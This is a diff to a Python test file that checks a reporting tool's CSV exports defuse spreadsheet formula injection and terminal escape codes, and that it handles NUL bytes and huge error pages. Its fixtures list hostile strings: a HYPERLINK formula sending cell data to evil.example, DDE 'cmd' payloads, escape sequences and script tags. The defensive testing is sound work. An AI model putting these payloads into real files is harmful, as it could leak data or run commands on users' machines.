@@ -6,10 +6,16 @@ comments, ticket summaries and run names and notes (script tags, event-handler a
 ``javascript:`` links, Markdown headings/tables/emphasis, a 10,000-line text, emoji); each page and
 each report format must show them literally. An audit also checks that no dashboard code can pass
 text to Streamlit as raw HTML.
+
+Hostile text also reaches spreadsheets and terminals: spreadsheet formulas in titles must reach no
+CSV as formulas, escape codes no CSV raw, a NUL in a run note must not stop syncing (PostgreSQL
+refuses NUL in text), and a source's error page must not become a megabyte-long message.
 """
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import shutil
 import subprocess
@@ -18,14 +24,23 @@ from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
+from mlflow import MlflowClient
+from pydantic import SecretStr
+from pytest_httpserver import HTTPServer
 from streamlit.testing.v1 import AppTest
 
+from connectors.jira import JiraClient, JiraConnector, RetryPolicy
+from connectors.mlflow_runs import MlflowConnector
+from glassbox import cli
 from glassbox.config import load_config
 from glassbox.events import Event, Ref, commit_event_id, event_id
 from glassbox.periods import Period
+from glassbox.redaction import MESSAGE_LIMIT
 from glassbox.reports import render_report
 from glassbox.sources import origin_of
-from glassbox.store import open_store
+from glassbox.store import Store, open_store
+from glassbox.sync import sync_connector
+from jira_server import FakeJira
 from seed import CONFIG_TEXT, seed_store
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -38,6 +53,15 @@ MARKDOWN = "**bold** _it_ `code` # heading | a | b | ~~gone~~ $x^2$ > quote"
 HOSTILE = f"{SCRIPT} {IMG} {JS_LINK} {MARKDOWN} 🚀 naïve 日本語"
 LONG = "\n".join(f"line {number} {SCRIPT}" for number in range(10_000))
 NAME = f"Acme {SCRIPT} {JS_LINK} 🚀"
+FORMULAS = {  # title -> the cell a spreadsheet must get
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1": "' =1+1",
+    "\r=1+1": "' =1+1",
+    "\x1b[31m=1+2\x1b[0m done\x1b]0;pwned\x07\x07": "'=1+2 done",  # the codes hid a formula
+}
 RAW_MARKUP = re.compile(r"(?<!\\)<(script|img)|(?<!\\)\]\(javascript:", re.IGNORECASE)
 
 
@@ -56,7 +80,12 @@ def hostile_events(config_path: Path, now: datetime) -> list[Event]:
            "title": f"run {SCRIPT}", "body": f"{HOSTILE}\n{LONG}"}
     run_attrs = {"run_id": "hostile-run", "experiment": "churn", "params": {"note": HOSTILE},
                  "metrics": {"val_auc": 0.8}, "start_time": at.isoformat(), "commit": sha}
+    formulas = [Event(id=commit_event_id(f"{number:040x}"), source="github", origin=github, category="commit",
+                      occurred_at=at, actor=team[0], actor_ids=team[:2], thread="acme/churn", title=title,
+                      refs=(Ref("commit", f"{number:040x}"),), attrs={"sha": f"{number:040x}", "parents": []})
+                for number, title in enumerate(FORMULAS, start=1)]
     return [
+        *formulas,
         Event(id=event_id("jira", jira, "666"), category="ticket_created", occurred_at=at, actor=client[2],
               actor_ids=client, title=HOSTILE, body=LONG,
               attrs={"key": "CHURN-666", "status": "To Do", "status_category": "new"}, **ticket),
@@ -180,3 +209,62 @@ def test_pdf_report_shows_hostile_text_and_carries_no_script(reports: dict[str, 
         pytest.skip("pdftotext is not installed (apt-get install poppler-utils); the HTML test covers the page")
     text = subprocess.run(["pdftotext", "-", "-"], input=pdf, check=True, capture_output=True).stdout.decode()
     assert "<script>alert(1)</script>" in text
+
+
+def test_csv_exports_neutralise_formulas_and_terminal_codes(engagement: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Timeline and report CSVs, both views: formulas start with ``'`` (OWASP), no escape code survives."""
+    today = datetime.now(timezone.utc).date()
+    start, end = str(today - timedelta(days=10)), str(today + timedelta(days=1))
+    config = load_config(engagement)
+    store = open_store(config.store_url)
+    period = Period("last 10 days", datetime.now(timezone.utc) - timedelta(days=10),
+                    datetime.now(timezone.utc) + timedelta(days=1))
+    exports = [str(render_report(store, config, period, fmt="csv", view=view)) for view in ("team", "client")]
+    store.engine.dispose()
+    for view in ("team", "client"):
+        assert cli.main(["timeline", "--config", str(engagement), "--format", "csv", "--from", start, "--to", end,
+                         "--view", view]) == 0
+        exports.append(capsys.readouterr().out)
+    for text in exports:
+        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", text), "no escape or control code"
+        rows = list(csv.DictReader(io.StringIO(text)))
+        assert set(FORMULAS.values()) <= {row["title"] for row in rows}
+        cells = [cell for row in rows for cell in row.values()]
+        assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+        assert HOSTILE in {row["title"] for row in rows}, "ordinary text is left as it was"
+
+
+def test_nul_in_a_run_note_does_not_stop_syncing(store: Store, tmp_path: Path, write_config) -> None:
+    """On PostgreSQL a NUL failed every sync with SQL in the message; now both stores hold the note without it."""
+    client = MlflowClient(f"sqlite:///{tmp_path / 'mlflow.db'}")
+    experiment = client.create_experiment("churn", artifact_location=str(tmp_path / "artifacts"))
+    start = int((datetime.now(timezone.utc) - timedelta(days=1)).timestamp() * 1000)
+    run = client.create_run(experiment, start_time=start, run_name="xgb-1",
+                            tags={"mlflow.user": "minh", "mlflow.note.content": "tuned\x00 depth \x00CHURN-7"})
+    client.log_param(run.info.run_id, "comment", "deep\x00er")
+    client.set_terminated(run.info.run_id, "FINISHED", end_time=start + 60_000)
+    config = load_config(write_config(f'[[mlflow]]\ntracking_uri = "sqlite:///{tmp_path / "mlflow.db"}"\n'))
+    for attempt in ("first", "again"):
+        summary = sync_connector(MlflowConnector.from_config(config.mlflow[0], config, "mlflow[0]"), store)
+        assert summary.ok, f"{attempt}: {summary.error}"
+    events = store.read_events(sources=["mlflow"], columns=("category", "body", "attrs"))
+    assert sorted(events["category"]) == ["run_finished", "run_started"]
+    assert set(events["body"]) == {"tuned depth CHURN-7"}
+    assert {attrs["params"]["comment"] for attrs in events["attrs"]} == {"deeper"}
+    assert set(store.read_refs()["value"]) >= {"CHURN-7"}
+
+
+def test_a_huge_error_page_becomes_one_short_clean_line(httpserver: HTTPServer, sqlite_store: Store) -> None:
+    """A Jira 400 with a 10 MB HTML page full of escape codes: one bounded line, in stderr and the store."""
+    paragraph = "<p>\x1b[31mBad request\x1b[0m\r\n\tthe query was refused \x1b]0;pwned\x07</p>\n"
+    page = "<html><body>" + paragraph * (10_000_000 // len(paragraph)) + "</body></html>"
+    httpserver.expect_request("/big/rest/api/2/search").respond_with_data(page, status=400, content_type="text/html")
+    fake = FakeJira(httpserver, prefix="/big")  # after our handler: ours answers the search
+    client = JiraClient(fake.url, SecretStr("alice@acme.example"), SecretStr("s3cret-token"), label=f"jira ({fake.url})",
+                        secret_names=("JIRA_USER", "JIRA_TOKEN"), policy=RetryPolicy(max_retries=1, timeout=30))
+    summary = sync_connector(JiraConnector(client, origin=fake.url, jql="project = DRILL"), sqlite_store)
+    stored = sqlite_store.sync_runs()["message"].iloc[0]
+    assert stored == summary.error
+    assert len(stored) <= MESSAGE_LIMIT and "\n" not in stored and "\r" not in stored and "\x1b" not in stored
+    assert stored.startswith(f"jira ({fake.url}): Jira rejected the query (<html><body><p>Bad request the query")
+    assert stored.endswith("…) — check jql in the [[jira]] section"), "the advice survives the cut"
